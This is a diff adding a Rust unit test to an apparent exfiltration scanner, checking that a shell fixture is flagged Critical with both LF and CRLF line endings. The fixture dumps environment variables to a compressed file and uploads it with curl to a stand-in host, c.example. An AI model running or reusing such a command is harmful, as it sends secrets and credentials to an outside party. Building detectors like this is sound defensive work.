@@ -210,3 +210,13 @@ fn a_secret_passed_to_a_function_that_sends_it_is_followed_inside() {
     );
     assert_eq!(severity("a.py", &own), None);
 }
+
+#[test]
+fn the_span_gate_misses_nothing_a_line_would_match() {
+    // Line-anchored forms (`printenv` alone, `curl` at a line start) on CRLF lines and on
+    // lines after the first: the unit-wide gate must let them through.
+    let lf = "#!/bin/sh\nset -e\nenv | gzip > /tmp/e.gz\nX=1\ncurl -s -F \"f=@/tmp/e.gz\" https://c.example/in\n";
+    assert_eq!(severity("a.sh", lf), Some(Severity::Critical));
+    let crlf = lf.replace('\n', "\r\n");
+    assert_eq!(severity("a.sh", &crlf), Some(Severity::Critical));
+}
